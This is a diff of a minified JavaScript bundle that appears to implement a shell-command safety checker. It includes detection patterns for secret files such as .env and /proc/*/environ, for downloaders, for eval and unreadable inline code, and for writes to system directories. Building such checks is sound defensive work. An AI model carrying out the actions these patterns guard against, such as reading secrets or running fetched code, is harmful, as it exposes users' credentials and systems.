-const[s,r=s]=t,i=r&&{span:{start:r.span.start,end:t.at(-1)?.span.end??0}},o=e.flatMap(({name:B,script:d})=>{const h=d===
-void 0?void 0:lS(d);return h?[{script:B,text:d??"",danger:h}]:[]}),c=new Set(o.map(({script:B})=>B)),l=n.filter(({args:B})=>!("\
-script"in B&&c.has(B.script)));return[...o.map(B=>(0,ct.gk)("npm-script-dangerous",B,i)),...l.map(ct.Lb)]}const CS=10,yS=[
-_S,ES,kS,DS,xS,n=>Mp(Lp(n),n.context.policy)],Np=(n,e,t)=>{const{policy:s,proposal:r}=t,[i,...o]=$S(n),c=[...NS(n),...Ip(
-e,n)],l=r.family??i?.text??"",B=Bp("curated",l,s.families),d=r.mode??(s.experimental.includes(l)?"experimental":"structu\
-red");if(i===void 0||B===void 0){const S=i?(0,ct.gk)("not_in_registry",{family:l},{span:i.span}):(0,ct.gk)("no_command",
-{});return{...jp("dangerous",t),findings:[S,...c].filter(Fp)}}const h=new Lc(t),g=xp(o,B,IS(h)),C=wS(g),y=new Set(B.dangerous_targets?.
-map(S=>h.locate(S))),_=C.some(({path:S})=>y.has(h.locate(S.replace(/\*$/,"")))),k={context:t,places:h,base:i,name:l,program:B,
-proposalMode:d,words:o,read:g,paths:C,broad:_},[v,...O]=yS.map(S=>S(k)),D=[...v??[],...c,...O.flat()],R=Lp(k),z=Gp(R,d);
-return{findings:D.some(({severity:S})=>S==="error")?$p(D.filter(Fp),CS):[...D,...AS(k).map(S=>(0,ct.gk)(S,{}))],risk:R,confirmation:z}};
-function Fp({severity:n}){return n!=="warning"}function wS({use:n,values:e}){const t=e.filter(({kind:r,text:i})=>Mh.has(
-r)&&i!=="-").map(({text:r,word:i})=>({path:r,word:i})),{default_operand:s}=n;return t.length===0&&s!==void 0?[{path:s}]:
-t}const bS={structured:["structured","experimental"],direct_only:["structured"],experimental_only:["experimental"],blocked:[]};
-function _S({name:n,base:e,program:t,proposalMode:s,context:r}){const{maturity:i="structured",platforms:o}=t.family.sandbox??
-{},{category:c}=t.family,{policy:l,platform:B}=r,d=bS[i];return[...l.disabled_packs.includes(c)?[`is in the disabled pac\
-k \`${c}\``]:[],...o?.includes(B)===!1?[`does not exist on \`${B}\``]:[],...d.includes(s)?[]:[`has the maturity \`${i}\``]].
-map(g=>(0,ct.gk)("family_unavailable",{family:n,reason:g},{span:e.span}))}function ES({name:n,base:e}){return n===e.text?
-[]:[(0,ct.gk)("family_base_mismatch",{family:n,base:e.text},{span:e.span})]}const vS={tar:"constrained_form.tar",unzip:"\
-constrained_form.unzip",zip:"constrained_form.zip",ping:"constrained_form.ping",curl:"constrained_form.curl",dig:"constr\
-ained_form.dns",nslookup:"constrained_form.dns"};function kS(n){const{name:e,program:t,words:s,read:r}=n,i=vS[e]??"const\
-rained_form.other",o=t.forms?i:"argument_refused";return[...s.filter(({text:l})=>t.family.category==="archives"&&Gh.test(
-l)).map(({text:l,span:B})=>(0,ct.gk)("shell_operator.quoted",{operator:l},{span:B})),...r.objections.filter(({word:l})=>l===
-void 0||Pp(l,n)===void 0).map(({objection:l,word:B})=>(0,ct.gk)(o,{family:e,objection:l},B?{span:B.span}:{}))]}function DS(n){
-return n.words.flatMap(e=>{const t=Pp(e,n);if(t===void 0)return[];const s={family:n.name,operand:e.text,prefix:t};return[
-(0,ct.gk)("forbidden_operand_prefix",s,{span:e.span})]})}function Pp({text:n},{program:e}){const{forbidden_prefixes:t=[]}=e;
-return t.find(s=>n.toLowerCase().startsWith(s.toLowerCase()))}function xS({paths:n,places:e,context:t}){const{allowed_roots:s}=t.
-policy;return s.length===0?[]:n.filter(({path:r})=>r.startsWith("~")||!e.leadsInto(r,s)).map(({path:r,word:i})=>(0,ct.gk)(
-"outside_allowed_roots",{path:r,roots:s},i&&{span:i.span}))}function Lp({broad:n,read:{use:e}}){return n?"dangerous":e.risk??
-"safe"}const OS=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;function AS({broad:n,paths:e,proposalMode:t,
-read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...Dp(s.use),...s.flags.flatMap(o=>r[o]??[]),...n?["broad_pe\
-rmission_target"]:[],...e.some(({path:o})=>OS.test(o))?["env_secrets"]:[],...t==="experimental"?["experimental_mode"]:[]])]}
-function jp(n,{policy:e,proposal:t}){const s=Gp(n,t.mode??"structured");return{findings:Mp(n,e),risk:n,confirmation:s}}function Mp(n,{
-mode:e,allow_dangerous:t}){return n==="safe"||n==="write"&&e!=="safe"||n==="dangerous"&&e==="dangerous"&&t?[]:[(0,ct.gk)(
-"policy_risk",{risk:n,mode:e})]}function Gp(n,e){return e==="experimental"?"very_strong":n==="dangerous"?"strong":"stand\
-ard"}const SS=["/bin","/dev","/etc","/lib","/private","/sbin","/usr","/var"],TS=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function IS(n){
-return(e,t)=>{const s=co[e](t);if(s!==void 0||e!=="destination"&&e!=="source")return s;const r=n.locate(t);if(r===void 0)
-return"cannot be resolved";if(r==="/")return"is the root of the file system";const o=(/^[\\/]|^[A-Za-z]:/.test(t)||!n.isIn(
-r,n.cwd))&&SS.find(c=>n.mayBeIn(r,c));if(o)return`is in the system directory ${o}`;if(e!=="destination")return n.mayBeIn(
-n.cwd,r)?"is the working directory or one of its parents":TS.test(r)?"is a home directory":void 0}}function $S({words:n,
-problems:e}){const t=e.filter(({rule:r})=>RS.has((0,gs.Y)(r).shape)),s=Math.min(...t.map(({span:r})=>r.start));return n.
-filter(({span:r})=>r.start<s)}const RS=new Set(["operator","redirection","multiline"]);function NS({problems:n}){return n.
-flatMap(({rule:e,args:t,span:s})=>{const{shape:r}=(0,gs.Y)(e);if(r===void 0)return[];if(r==="unreadable")return[(0,ct.gk)(
-"parse_failed",{},{span:s})];const{operator:i,written:o,character:c}=t,l=String(i??o??c),B=r==="operator"?FS(l):r;return[
-(0,ct.gk)(`shell_operator.${B}`,{operator:l},{span:s})]})}function FS(n){return n==="|"||n==="|&"?"pipeline":n==="&"?"ba\
-ckground":"chaining"}const Hp="`node` with a script",zc={begins:/^\s*(["']?)node\1\s/,accepts:Hp,bare:/[;&|<>`$"'\r]/,script:{
-flags:/^(?:-[eprCi]|--eval|--print|--require|--conditions|--interactive|--import|--env-file|--(?:experimental-)?loader|--inspect(?:-brk|-port|-publish-uid)?|--watch(?:-path|-preserve-output)?)(?:=|$)/,
-informs:/^(?:-v|--version|-h|--help)(?:=|$)/}},PS={"engine 1.29":{begins:/^\s*(?:node|npm|npx) \s*\S/,accepts:"`node`, `\
+as code":/\b(?:eval|Function)\s*\(|['"`](?:node:)?vm\\?['"`]|\b__import__\b/};function vp(n){const e=(o,{index:c,0:{length:l}})=>({
+does:o,span:{start:c,end:c+l}}),t=gS.exec(n);if(t)return e("names a file that is made for secrets",t);const s=jn(n),r=Mn(
+s).some(yS);for(const[o,c]of r?Object.entries(CS):[]){const l=c.exec(n);if(l)return e(`${o} in inline code`,l)}const[i]=Gr(
+s);return i?{does:zc[i.name],span:i.span}:kp(s)}function yS({words:n}){return[...new Map(n.map(({text:t},s)=>[Lt(t),s]).
+toReversed()).values()].some(t=>oo(n.slice(t))!==void 0)}function kp(n,e=0){for(const{words:t,pipedFrom:s}of Mn(n)){const[
+r,...i]=t;if(r===void 0)continue;const o=Le.posix.basename(r.text),c=Dp(o,i)??bS(Lr(t));if(c!==void 0)return{does:c,span:r.
+span};if(Ji(o)&&(s!==void 0||i.length===0))return{does:`has \`${o}\` run whatever it reads`,span:r.span};if(!(o!=="find"&&
+!OB(o)))for(const{text:l,span:B}of i){const h=e<pS&&/\s/.test(l)?kp(jn(l),e+1):void 0,g=Dp(Le.posix.basename(l),i)??h?.does;
+if(g!==void 0)return{does:g,span:B}}}}function Dp(n,e){const{kind:t,wraps:s}=Lt(n)??{};if(s==="as-user")return`acts as a\
+nother user with \`${n}\``;if(t==="downloader")return`downloads with \`${n}\``;const r=e.slice(0,mS).map(({text:o})=>`${n}\
+-${o}`),i=[n,...r].find(o=>Ep.has(o));return i&&`${Ep.get(i)} with \`${i.replace("-"," ")}\``}const wS=/^\s*(?:eval\s+)*["']?(?:\$[\w({]|`|_{4,}(?:\s|$))/;
+function bS(n){const[e,...t]=n.map(({text:o})=>o);if(e===void 0||!Pa(e))return;const s=oo(n);if(s!==void 0)return s.text!==
+s.words.map(({text:c})=>c).join(" ")||wS.test(s.text)?"runs text that nobody can read in it":void 0;const r=t.find(o=>!o.
+startsWith("-"))??"";return Ui(e)!=="node"&&/^(?:~|\.\.|\/|[A-Za-z]:[\\/])/.test(r)?"runs a file outside the repository":
+void 0}function xp({warnings:n=[],network_touching:e}){return e?["network_touching",...n]:n}function Op(n,e,t=(s,r)=>lo[s](
+r)){if(e.forms!==void 0)return _S(n,e,e.forms,t);if(e.subcommands===void 0)return Tp(n,e,t);const[s,...r]=n,i=Object.entries(
+e.subcommands).find(([c])=>c===s?.text)?.[1];if(i!==void 0)return Tp(r,{...e,...i},t);const o=`is accepted only with ${Sp(
+Object.keys(e.subcommands))}`;return{use:e,flags:[],values:[],objections:[{objection:o,...s&&{word:s}}]}}function _S(n,e,t,s){
+const r=`is accepted only as ${Sp(Object.keys(t))}`,[i]=n;let o={use:e,flags:[],values:[],objections:[{objection:r,...i&&
+{word:i}}]};for(const[c,l]of Object.entries(t)){const B=SA(Wh(c)??[],n,s);if(B===void 0)continue;const d=B.map(({word:g,
+kind:C})=>({text:g.text,word:g,kind:C})),h=B.find(g=>g.wrong!==void 0);if(!h)return{use:{...e,...l},flags:[],values:d,objections:[]};
+o={...o,values:d,objections:[Ap(h)]}}return o}function Ap({word:n,wrong:e}){return{objection:`does not accept \`${n.text}\
+\`, which ${e}`,word:n}}function Sp(n){return n.map(e=>`\`${e}\``).join(", ")}function Tp(n,e,t){const{leading_flags:s=[]}=e,
+{flags:r,operands:i}=ks(rB(e.flags,s),n),o=[],c=(v,O)=>o.push(Ap({word:v,wrong:O})),l=[],B=[];for(const{word:v,flag:O,value:D,
+valueWord:R}of r){if(O===void 0||O.choices?.includes(D??"")===!1){c(v,"is not among its flags");continue}B.push(O.name),
+s.includes(O.name)&&i.some(z=>Ip(v,z))&&c(v,"must come before the operands"),O.arity!=="none"&&(D===void 0?c(v,"requires\
+ a value"):l.push({text:D,kind:O.kind,word:R??v}))}const d=r.find(({flag:v})=>!s.includes(v?.name??"")),h=(v=[])=>v.some(
+O=>B.includes(O)),g=(Kh(e.operands??"path*")??[]).slice(h(e.first_operand_by)?1:0);for(const[v,O]of i.entries()){s.length>
+0&&d&&Ip(O,d.word)&&c(O,"comes after the expression");const D=g[Math.min(v,g.length-1)];l.push({text:O.text,kind:D?.kind??
+"path",word:O})}for(const{text:v,kind:O,word:D}of l){const R=t(O,v);R!==void 0&&o.push({objection:`does not accept \`${v}\
+\`, which ${R}`,word:D})}const{min:C,max:y}=Vh(g),_=C-(h(e.last_operand_by)?1:0),k=i.length;if(k<_||k>y){const v=y===_?`${y}`:
+`${_} to ${y}`,O=Number.isFinite(y)?v:`at least ${_}`;o.push({objection:`takes ${O} operands, not ${k}`})}return{use:e,flags:B,
+values:l,objections:o}}function Ip(n,e){return n.span.start>e.span.start}function $p(n,{invocation:e}){const t=e?.family?
+["program","invocation","target"]:["program"];return n.filter(({layer:s,rule:r})=>!t.includes(String(s))||(0,gs.Y)(r).anyText===
+!0)}function Rp(n,e){const t=new Map;return n.filter(({rule:s})=>{const r=(t.get(s)??0)+1;return t.set(s,r),r<=e})}function Np({
+problems:n,targets:e,words:t}){const[s,r=s]=t,i=r&&{span:{start:r.span.start,end:t.at(-1)?.span.end??0}},o=e.flatMap(({name:B,
+script:d})=>{const h=d===void 0?void 0:fS(d);return h?[{script:B,text:d??"",danger:h}]:[]}),c=new Set(o.map(({script:B})=>B)),
+l=n.filter(({args:B})=>!("script"in B&&c.has(B.script)));return[...o.map(B=>(0,ct.gk)("npm-script-dangerous",B,i)),...l.
+map(ct.Lb)]}const ES=10,vS=[xS,OS,SS,TS,IS,n=>Gp(jp(n),n.context.policy)],Fp=(n,e,t)=>{const{policy:s,proposal:r}=t,[i,...o]=LS(
+n),c=[...MS(n),...$p(e,n)],l=r.family??i?.text??"",B=Bp("curated",l,s.families),d=r.mode??(s.experimental.includes(l)?"e\
+xperimental":"structured");if(i===void 0||B===void 0){const S=i?(0,ct.gk)("not_in_registry",{family:l},{span:i.span}):(0,ct.
+gk)("no_command",{});return{...Mp("dangerous",t),findings:[S,...c].filter(Pp)}}const h=new jc(t),g=Op(o,B,PS(h)),C=kS(g),
+y=new Set(B.dangerous_targets?.map(S=>h.locate(S))),_=C.some(({path:S})=>y.has(h.locate(S.replace(/\*$/,"")))),k={context:t,
+places:h,base:i,name:l,program:B,proposalMode:d,words:o,read:g,paths:C,broad:_},[v,...O]=vS.map(S=>S(k)),D=[...v??[],...c,
+...O.flat()],R=jp(k),z=Hp(R,d);return{findings:D.some(({severity:S})=>S==="error")?Rp(D.filter(Pp),ES):[...D,...RS(k).map(
+S=>(0,ct.gk)(S,{}))],risk:R,confirmation:z}};function Pp({severity:n}){return n!=="warning"}function kS({use:n,values:e}){
+const t=e.filter(({kind:r,text:i})=>Mh.has(r)&&i!=="-").map(({text:r,word:i})=>({path:r,word:i})),{default_operand:s}=n;
+return t.length===0&&s!==void 0?[{path:s}]:t}const DS={structured:["structured","experimental"],direct_only:["structured"],
+experimental_only:["experimental"],blocked:[]};function xS({name:n,base:e,program:t,proposalMode:s,context:r}){const{maturity:i="\
+structured",platforms:o}=t.family.sandbox??{},{category:c}=t.family,{policy:l,platform:B}=r,d=DS[i];return[...l.disabled_packs.
+includes(c)?[`is in the disabled pack \`${c}\``]:[],...o?.includes(B)===!1?[`does not exist on \`${B}\``]:[],...d.includes(
+s)?[]:[`has the maturity \`${i}\``]].map(g=>(0,ct.gk)("family_unavailable",{family:n,reason:g},{span:e.span}))}function OS({
+name:n,base:e}){return n===e.text?[]:[(0,ct.gk)("family_base_mismatch",{family:n,base:e.text},{span:e.span})]}const AS={
+tar:"constrained_form.tar",unzip:"constrained_form.unzip",zip:"constrained_form.zip",ping:"constrained_form.ping",curl:"\
+constrained_form.curl",dig:"constrained_form.dns",nslookup:"constrained_form.dns"};function SS(n){const{name:e,program:t,
+words:s,read:r}=n,i=AS[e]??"constrained_form.other",o=t.forms?i:"argument_refused";return[...s.filter(({text:l})=>t.family.
+category==="archives"&&Gh.test(l)).map(({text:l,span:B})=>(0,ct.gk)("shell_operator.quoted",{operator:l},{span:B})),...r.
+objections.filter(({word:l})=>l===void 0||Lp(l,n)===void 0).map(({objection:l,word:B})=>(0,ct.gk)(o,{family:e,objection:l},
+B?{span:B.span}:{}))]}function TS(n){return n.words.flatMap(e=>{const t=Lp(e,n);if(t===void 0)return[];const s={family:n.
+name,operand:e.text,prefix:t};return[(0,ct.gk)("forbidden_operand_prefix",s,{span:e.span})]})}function Lp({text:n},{program:e}){
+const{forbidden_prefixes:t=[]}=e;return t.find(s=>n.toLowerCase().startsWith(s.toLowerCase()))}function IS({paths:n,places:e,
+context:t}){const{allowed_roots:s}=t.policy;return s.length===0?[]:n.filter(({path:r})=>r.startsWith("~")||!e.leadsInto(
+r,s)).map(({path:r,word:i})=>(0,ct.gk)("outside_allowed_roots",{path:r,roots:s},i&&{span:i.span}))}function jp({broad:n,
+read:{use:e}}){return n?"dangerous":e.risk??"safe"}const $S=/(?:^|[\\/])\.env(?:\.[\w.-]+)?$|^\/proc\/[^/]+\/environ$/i;
+function RS({broad:n,paths:e,proposalMode:t,read:s}){const{flag_warnings:r={}}=s.use;return[...new Set([...xp(s.use),...s.
+flags.flatMap(o=>r[o]??[]),...n?["broad_permission_target"]:[],...e.some(({path:o})=>$S.test(o))?["env_secrets"]:[],...t===
+"experimental"?["experimental_mode"]:[]])]}function Mp(n,{policy:e,proposal:t}){const s=Hp(n,t.mode??"structured");return{
+findings:Gp(n,e),risk:n,confirmation:s}}function Gp(n,{mode:e,allow_dangerous:t}){return n==="safe"||n==="write"&&e!=="s\
+afe"||n==="dangerous"&&e==="dangerous"&&t?[]:[(0,ct.gk)("policy_risk",{risk:n,mode:e})]}function Hp(n,e){return e==="exp\
+erimental"?"very_strong":n==="dangerous"?"strong":"standard"}const NS=["/bin","/dev","/etc","/lib","/private","/sbin","/\
+usr","/var"],FS=/^\/(?:home|Users|root)(?:\/[^/]*)?$/i;function PS(n){return(e,t)=>{const s=lo[e](t);if(s!==void 0||e!==
+"destination"&&e!=="source")return s;const r=n.locate(t);if(r===void 0)return"cannot be resolved";if(r==="/")return"is t\
+he root of the file system";const o=(/^[\\/]|^[A-Za-z]:/.test(t)||!n.isIn(r,n.cwd))&&NS.find(c=>n.mayBeIn(r,c));if(o)return`\
+is in the system directory ${o}`;if(e!=="destination")return n.mayBeIn(n.cwd,r)?"is the working directory or one of its \
+parents":FS.test(r)?"is a home directory":void 0}}function LS({words:n,problems:e}){const t=e.filter(({rule:r})=>jS.has(
+(0,gs.Y)(r).shape)),s=Math.min(...t.map(({span:r})=>r.start));return n.filter(({span:r})=>r.start<s)}const jS=new Set(["\
+operator","redirection","multiline"]);function MS({problems:n}){return n.flatMap(({rule:e,args:t,span:s})=>{const{shape:r}=(0,gs.
+Y)(e);if(r===void 0)return[];if(r==="unreadable")return[(0,ct.gk)("parse_failed",{},{span:s})];const{operator:i,written:o,
+character:c}=t,l=String(i??o??c),B=r==="operator"?GS(l):r;return[(0,ct.gk)(`shell_operator.${B}`,{operator:l},{span:s})]})}
+function GS(n){return n==="|"||n==="|&"?"pipeline":n==="&"?"background":"chaining"}const zp="`node` with a script",Uc={begins:/^\s*(["']?)node\1\s/,
+accepts:zp,bare:/[;&|<>`$"'\r]/,script:{flags:/^(?:-[eprCi]|--eval|--print|--require|--conditions|--interactive|--import|--env-file|--(?:experimental-)?loader|--inspect(?:-brk|-port|-publish-uid)?|--watch(?:-path|-preserve-output)?)(?:=|$)/,
+informs:/^(?:-v|--version|-h|--help)(?:=|$)/}},HS={"engine 1.29":{begins:/^\s*(?:node|npm|npx) \s*\S/,accepts:"`node`, `\
 npm` and `npx`",text:/`|\$\(|(?:-e|--eval|--print|-p)\b(?<=^\s*node\s+(?:-e|--eval|--print|-p))/,bare:/[;&|<>]/},"engine\
- 1.94":{...zc,begins:/^\s*node \s*\S/},"hub 1.94":zc,"engine 2":{begins:zc.begins,accepts:Hp,text:/`|\$\(|\\["']/,bare:/[;&|<>`$"'\r\n]/,
-script:{flags:/^-/,options:/^(?:-c|--check|--)$/,informs:/^(?:-v|--version|-h|--help)$/}}},zp=/"([^"]*)"|'([^']*)'/g,LS=/(?:"[^"]*"|'[^']*'|[^\s"']+)+/g;
-function Up(n,e){const{begins:t,accepts:s,text:r,bare:i,script:o}=PS[n],c=e.trimEnd(),[l,...B]=[...c.matchAll(LS)].map(({
-0:R,index:z})=>({text:R.replace(zp,"$1$2"),span:{start:z,end:z+R.length}})),d=R=>(0,ct.gk)("validator-script",{engine:n,
+ 1.94":{...Uc,begins:/^\s*node \s*\S/},"hub 1.94":Uc,"engine 2":{begins:Uc.begins,accepts:zp,text:/`|\$\(|\\["']/,bare:/[;&|<>`$"'\r\n]/,
+script:{flags:/^-/,options:/^(?:-c|--check|--)$/,informs:/^(?:-v|--version|-h|--help)$/}}},Up=/"([^"]*)"|'([^']*)'/g,zS=/(?:"[^"]*"|'[^']*'|[^\s"']+)+/g;
+function Jp(n,e){const{begins:t,accepts:s,text:r,bare:i,script:o}=HS[n],c=e.trimEnd(),[l,...B]=[...c.matchAll(zS)].map(({
+0:R,index:z})=>({text:R.replace(Up,"$1$2"),span:{start:z,end:z+R.length}})),d=R=>(0,ct.gk)("validator-script",{engine:n,
 accepts:s,command:R},l&&{span:l.span});if(l===void 0||!t.test(c))return d(l?`\`${l.text}\``:"an empty command");const h=c.
-replace(zp,R=>"_".repeat(R.length)),g=r?.exec(c)??i.exec(h);if(g){const R={start:g.index,end:g.index+g[0].length};return(0,ct.
+replace(Up,R=>"_".repeat(R.length)),g=r?.exec(c)??i.exec(h);if(g){const R={start:g.index,end:g.index+g[0].length};return(0,ct.
 gk)("validator-flag",{engine:n,flag:g[0],of:"node"},{span:R})}if(o===void 0)return;const{flags:C,options:y,informs:_}=o,
 k=B.some(R=>_.test(R.text));if(y&&k&&B.length===1)return;const v=B.find(R=>!(y??/^-|^$/).test(R.text)),D=(y?B.filter(R=>R===
 v):B).find(R=>C.test(R.text));if(D){const R=v&&v.span.start<D.span.start?"script":"node";return(0,ct.gk)("validator-flag",
-{engine:n,flag:D.text,of:R},{span:D.span})}if(!(v?.text||k&&!y))return d("`node` without a script")}const jS=(n,e,t)=>{const s=n.
-words[0]?.text;if(n.invocation===void 0&&s&&YA(s,t.policy))return Np(n,e,GS(t));const r=MS(n,e);return{findings:e,...r&&
-{risk:r}}};function MS({invocation:n},e){const t=n?.family?.data.risk;return e.some(({severity:r})=>r==="error")||t==="s\
-afe"?void 0:t}function GS(n){const{policy:e}=n,t=e.allowed_roots.length>0?e.allowed_roots:["."];return{...n,policy:{...e,
-allowed_roots:t}}}const HS=new Set(["--version","--help","--v8-options"]),zS=(n,e,{policy:{a2a:t}})=>{const{invocation:s,
-command:r}=n,[i]=t.engines.flatMap(h=>Up(h,r)??[]),o=[...e,...i?[i]:[]],[c]=s?.operands??[],l=s?.flags.some(({name:h})=>HS.
+{engine:n,flag:D.text,of:R},{span:D.span})}if(!(v?.text||k&&!y))return d("`node` without a script")}const US=(n,e,t)=>{const s=n.
+words[0]?.text;if(n.invocation===void 0&&s&&XA(s,t.policy))return Fp(n,e,ZS(t));const r=JS(n,e);return{findings:e,...r&&
+{risk:r}}};function JS({invocation:n},e){const t=n?.family?.data.risk;return e.some(({severity:r})=>r==="error")||t==="s\
+afe"?void 0:t}function ZS(n){const{policy:e}=n,t=e.allowed_roots.length>0?e.allowed_roots:["."];return{...n,policy:{...e,
+allowed_roots:t}}}const WS=new Set(["--version","--help","--v8-options"]),KS=(n,e,{policy:{a2a:t}})=>{const{invocation:s,
+command:r}=n,[i]=t.engines.flatMap(h=>Jp(h,r)??[]),o=[...e,...i?[i]:[]],[c]=s?.operands??[],l=s?.flags.some(({name:h})=>WS.
 has(h));if(c===void 0||l||o.some(({severity:h})=>h==="error"))return{findings:o};const{text:B,span:d}=c;return{findings:[
 ...o,(0,ct.gk)("validator-empty-folder",{script:B},{span:d})]}};/*!
 * re2js
@@ -5787,26 +5795,26 @@ has(h));if(c===void 0||l||o.some(({severity:h})=>h==="error"))return{findings:o}
 * @license MIT
 */var oe=class Ns{static FOLD_CASE=1;static LITERAL=2;static CLASS_NL=4;static DOT_NL=8;static ONE_LINE=16;static NON_GREEDY=32;static PERL_X=64;static UNICODE_GROUPS=128;static WAS_DOLLAR=256;static LOOKBEHIND=512;static MATCH_NL=Ns.
 CLASS_NL|Ns.DOT_NL;static PERL=Ns.CLASS_NL|Ns.ONE_LINE|Ns.PERL_X|Ns.UNICODE_GROUPS;static POSIX=0;static UNANCHORED=0;static ANCHOR_START=1;static ANCHOR_BOTH=2};
-const Kt={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},Gr=128,Uc=new Int32Array(
-Gr),Jc=new Int32Array(Gr),po=65535;for(let n=0;n<Gr;n++)n>=97&&n<=122?Uc[n]=n-32:Uc[n]=n,n>=65&&n<=90?Jc[n]=n+32:Jc[n]=n;
+const Kt={CASE_INSENSITIVE:1,DOTALL:2,MULTILINE:4,DISABLE_UNICODE_GROUPS:8,LONGEST_MATCH:16,LOOKBEHINDS:512},Hr=128,Jc=new Int32Array(
+Hr),Zc=new Int32Array(Hr),go=65535;for(let n=0;n<Hr;n++)n>=97&&n<=122?Jc[n]=n-32:Jc[n]=n,n>=65&&n<=90?Zc[n]=n+32:Zc[n]=n;
 var ce=class{static CODES=Object.freeze({"\x07":7,"\b":8,"	":9,"\n":10,"\v":11,"\f":12,"\r":13," ":32,'"':34,$:36,"&":38,
 "'":39,"(":40,")":41,"*":42,"+":43,"-":45,".":46,0:48,1:49,2:50,3:51,4:52,5:53,6:54,7:55,8:56,9:57,":":58,"<":60,">":62,
 "?":63,A:65,B:66,C:67,F:70,P:80,Q:81,U:85,Z:90,"[":91,"\\":92,"]":93,"^":94,_:95,"`":96,a:97,b:98,f:102,i:105,m:109,n:110,
-r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(n){if(n<Gr)return Uc[n];const e=String.
-fromCodePoint(n).toUpperCase(),t=e.codePointAt(0)>po?2:1;if(e.length>t)return n;const s=String.fromCodePoint(e.codePointAt(
-0)).toLowerCase(),r=s.codePointAt(0)>po?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(0)}static toLowerCase(n){
-if(n<Gr)return Jc[n];const e=String.fromCodePoint(n).toLowerCase(),t=e.codePointAt(0)>po?2:1;if(e.length>t)return n;const s=String.
-fromCodePoint(e.codePointAt(0)).toUpperCase(),r=s.codePointAt(0)>po?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(
+r:114,s:115,t:116,v:118,x:120,z:122,"{":123,"|":124,"}":125});static toUpperCase(n){if(n<Hr)return Jc[n];const e=String.
+fromCodePoint(n).toUpperCase(),t=e.codePointAt(0)>go?2:1;if(e.length>t)return n;const s=String.fromCodePoint(e.codePointAt(
+0)).toLowerCase(),r=s.codePointAt(0)>go?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(0)}static toLowerCase(n){
+if(n<Hr)return Zc[n];const e=String.fromCodePoint(n).toLowerCase(),t=e.codePointAt(0)>go?2:1;if(e.length>t)return n;const s=String.
+fromCodePoint(e.codePointAt(0)).toUpperCase(),r=s.codePointAt(0)>go?2:1;return s.length>r||s.codePointAt(0)!==n?n:e.codePointAt(
 0)}},T=class{constructor(n,e=!1){this.data=n,this.isStride1=e,this.SIZE=e?2:3}getLo(n){return this.data[n*this.SIZE]}getHi(n){
 return this.data[n*this.SIZE+1]}getStride(n){return this.isStride1?1:this.data[n*this.SIZE+2]}get length(){return this.data.
-length/this.SIZE}};const US="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",Jp=new Uint8Array(256);for(let n=0;n<
-64;n++)Jp[US.charCodeAt(n)]=n;const Zp=n=>{const e=[];let t=0,s=0;for(let r=0;r<n.length;r++){const i=Jp[n.charCodeAt(r)];
-t|=(i&31)<<s,(i&32)===0?(e.push(t),t=0,s=0):s+=5}return e},I=(n,e)=>{const t=Zp(n),s=e?t.length/2:t.length/3,r=new Uint32Array(
-s*3);let i=0,o=0;for(let c=0;c<s;c++)i+=t[o++],r[c*3]=i,i+=t[o++],r[c*3+1]=i,r[c*3+2]=e?1:t[o++];return r},JS=n=>{const e=Zp(
-n),t=new Map;let s=0;for(let r=0;r<e.length;r+=2){s+=e[r];const i=e[r+1],o=i>>>1^-(i&1);t.set(s,s+o)}return t};var mo=class{constructor(n){
+length/this.SIZE}};const qS="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-",Zp=new Uint8Array(256);for(let n=0;n<
+64;n++)Zp[qS.charCodeAt(n)]=n;const Wp=n=>{const e=[];let t=0,s=0;for(let r=0;r<n.length;r++){const i=Zp[n.charCodeAt(r)];
+t|=(i&31)<<s,(i&32)===0?(e.push(t),t=0,s=0):s+=5}return e},I=(n,e)=>{const t=Wp(n),s=e?t.length/2:t.length/3,r=new Uint32Array(
+s*3);let i=0,o=0;for(let c=0;c<s;c++)i+=t[o++],r[c*3]=i,i+=t[o++],r[c*3+1]=i,r[c*3+2]=e?1:t[o++];return r},YS=n=>{const e=Wp(
+n),t=new Map;let s=0;for(let r=0;r<e.length;r+=2){s+=e[r];const i=e[r+1],o=i>>>1^-(i&1);t.set(s,s+o)}return t};var Co=class{constructor(n){
 this.initializer=n,this.cache=new Map}has(n){return Object.hasOwn(this.initializer,n)}get(n){if(this.cache.has(n))return this.
 cache.get(n);const e=this.has(n)?this.initializer[n]():null;return this.cache.set(n,e),e}},Bn=class{static _CASE_ORBIT=null;static get CASE_ORBIT(){
-return this._CASE_ORBIT||(this._CASE_ORBIT=JS("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgC\
+return this._CASE_ORBIT||(this._CASE_ORBIT=YS("rCgCIgCY+rQI4QiCuuBLgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgC\
 BgCBgCBgCBgCBgCCgCBgCBgCBgCBgCBgCBgCB+7OB-BB-BB-BB-BB-BBskQB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BC-BB-BB-BB\
 -BB-BB-BB-BByHBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBDCBBBCBBBC\
 BBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBC\
@@ -5896,7 +5904,7 @@ nG6CBGYBDYBtBqCBF4BBIQBhCEBMGBK1mHBqBfBiDyDB+vIDBCGBCBBCiJBQeeBBBDPPBCBJrMBloCqD
